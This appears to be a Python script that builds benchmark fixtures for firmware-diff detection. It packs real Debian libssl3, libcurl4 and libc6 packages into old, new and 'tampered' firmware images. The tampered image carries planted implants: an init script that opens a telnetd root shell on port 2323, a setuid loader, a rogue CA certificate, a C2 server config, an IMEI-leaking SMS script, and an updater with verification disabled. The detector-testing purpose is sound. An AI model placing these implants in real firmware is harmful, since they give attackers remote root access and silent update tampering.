#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A real security update as firmware: libssl3, libcurl4 and libc6 of Debian in the oldest and the newest version that
the mirror has, packed as pairs.py packs.

    debs.py DIRECTORY

DIRECTORY/old.*, new.*   the two versions       DIRECTORY/tampered.*   new, with PLANTED in it
DIRECTORY/planted        as pairs.py writes it  DIRECTORY/versions     "package old new", a line each

Packages come through apt; DIRECTORY/debs keeps them. Where the mirror has one version only, the old one is made from the
newest: with another build id and version words in each library (and versions says "made"). Exits with 77 where apt has
nothing. Not part of a build: tests/bench/run and whoever wants to see it call this.
"""
import gzip
import os
import re
import subprocess
import sys

import pairs

PACKAGES = ["libssl3", "libcurl4", "libc6"]
LIB = "usr/lib/x86_64-linux-gnu"
LOADER = "lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
PLANTED = [
    ("setuid", LOADER, "04755"),
    ("ca", "etc/ssl/certs/extra.pem", "CERTIFICATE"),
    ("telnetd", "etc/init.d/S99dbg", "telnetd"),
    ("c2", "etc/update.conf", pairs.C2),
    ("phone", "usr/lib/modem/notify.sh", pairs.PHONE),
    ("at", "usr/lib/modem/notify.sh", "AT+CGSN"),
    ("one-token", "usr/lib/modem/update.sh", "VERIFY=0"),
    ("imei", "usr/lib/modem/table.bin", pairs.IMEIS[0]),
    ("renamed", "usr/lib/ossl-modules/legacy2.so", "legacy.so"),
]


def run(*args, **kw):
    return subprocess.run([str(a) for a in args], capture_output=True, text=True, env=dict(os.environ, LC_ALL="C"), **kw)


def versions(package):
    """Oldest and newest that apt knows, by Debian's own order."""
    have = {line.split("|")[1].strip() for line in run("apt-cache", "madison", package).stdout.splitlines() if "Packages" in line}
    row = []
    for v in have:
        at = 0
        while at < len(row) and run("dpkg", "--compare-versions", row[at], "lt", v).returncode == 0:
            at += 1
        row.insert(at, v)
    return row[:1] + row[-1:]


def fetch(package, version, debs):
    name = f"{package}_{version.replace(':', '%3a')}_"
    for _ in range(2):
        for f in os.listdir(debs):
            if f.startswith(name):
                return os.path.join(debs, f)
        run("apt-get", "download", f"{package}={version}", cwd=debs)
    return None


def unpack(deb, tree):
    os.makedirs(tree, exist_ok=True)
    pairs.quiet("dpkg-deb", "-x", deb, tree)


def read(tree):
    files = {}
    for folder, folders, names in os.walk(tree):
        for name in names + [d for d in folders if os.path.islink(os.path.join(folder, d))]:
            path = os.path.join(folder, name)
            inside = os.path.relpath(path, tree)
            if os.path.islink(path):
                files[inside] = (None, os.readlink(path))
                continue
            with open(path, "rb") as f:
                files[inside] = (os.stat(path).st_mode & 0o7777, f.read())
    return files


def older(files):
    """A release before this one, for mirrors that have forgotten it: what every rebuild changes, and no more."""
    made = {}
    for path, (mode, data) in files.items():
        if mode is not None and data[:4] == b"\x7fELF":
            data = re.sub(rb"(GNU\0)(.{20})", lambda m: m[1] + bytes(b ^ 0x5a for b in m[2]), data, count=1, flags=re.S)
            data = data.replace(b"3.0.22", b"3.0.17").replace(b"deb12u14", b"deb12u07")
        made[path] = (mode, data)
    return made


def plant(files, directory):
    bad = dict(files)
    script = "#!/bin/sh\nURL=https://updates.vendor.example/stable\nVERIFY=%d\n[ \"$VERIFY\" = 1 ] && check \"$1\"\n"
    bad["usr/lib/modem/update.sh"] = (0o755, (script % 0).encode())
    bad["usr/lib/modem/notify.sh"] = (0o755, f"#!/bin/sh\necho 'AT+CGSN' >/dev/smd8\nsend_sms {pairs.PHONE}\n".encode())
    bad["usr/lib/modem/table.bin"] = (0o644, b"".join(i.encode() + b"\0" for i in pairs.IMEIS) * 4)
    bad["etc/update.conf"] = (0o644, f"server={pairs.C2}\n".encode())
    bad["etc/ssl/certs/extra.pem"] = (0o644, pairs.ca("Extra", directory))
    bad["etc/init.d/S99dbg"] = (0o755, b"#!/bin/sh\ntelnetd -l /bin/sh -p 2323\n")
    bad[LOADER] = (0o4755, bad[LOADER][1])
    data = bytearray(bad.pop(LIB + "/ossl-modules/legacy.so")[1])
    data[len(data) // 2:len(data) // 2 + 32] = b"\xcc" * 32
    bad["usr/lib/ossl-modules/legacy2.so"] = (0o644, bytes(data))
    files = dict(files)
    files["usr/lib/modem/update.sh"] = (0o755, (script % 1).encode())
    return files, bad


def pack(files, version, out):
    at, root = os.path.join(out, version), os.path.join(out, version, "tree")
    pairs.write_tree(files, root)
    pairs.squashfs(root, at + ".sqfs")
    with open(at + ".sqfs", "rb") as f:
        fs = f.read()
    boot = pairs.uimage(pairs.kernel("base" if version == "old" else version), "Linux-5.10.0")
    room = (len(fs) // 0x100000 + 1) * 0x100000
    made = {
        ".cpio.gz": gzip.compress(pairs.cpio(files), 6, mtime=0),
        ".flash": pairs.erased(boot, 0x80000) + pairs.erased(fs, room),
        ".gpt": pairs.gpt([("boot", boot, 1024), ("rootfs", fs, room // 512)]),
    }
    for suffix, data in made.items():
        with open(at + suffix, "wb") as f:
            f.write(data)


def main(out):
    debs = os.path.join(out, "debs")
    os.makedirs(debs, exist_ok=True)
    said, trees = [], {"old": {}, "new": {}}
    for package in PACKAGES:
        have = versions(package)
        if not have:
            sys.exit(77)
        for side, version in zip(("old", "new"), (have[0], have[-1])):
            deb = fetch(package, version, debs)
            if not deb:
                sys.exit(77)
            tree = os.path.join(out, "unpacked", side, package)
            unpack(deb, tree)
            files = read(tree)
            trees[side].update(older(files) if side == "old" and have[0] == have[-1] else files)
        said.append(f"{package} {have[0] if have[0] != have[-1] else 'made'} {have[-1]}\n")
    trees["old"]["usr/lib/modem/update.sh"] = plant(trees["old"], out)[0]["usr/lib/modem/update.sh"]
    trees["new"], trees["tampered"] = plant(trees["new"], out)
    for version, files in trees.items():
        pack(files, version, out)
    for name, lines in [("planted", ["\t".join(row) + "\n" for row in PLANTED]), ("versions", said)]:
        with open(os.path.join(out, name), "w") as f:
            f.writelines(lines)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main(sys.argv[1])
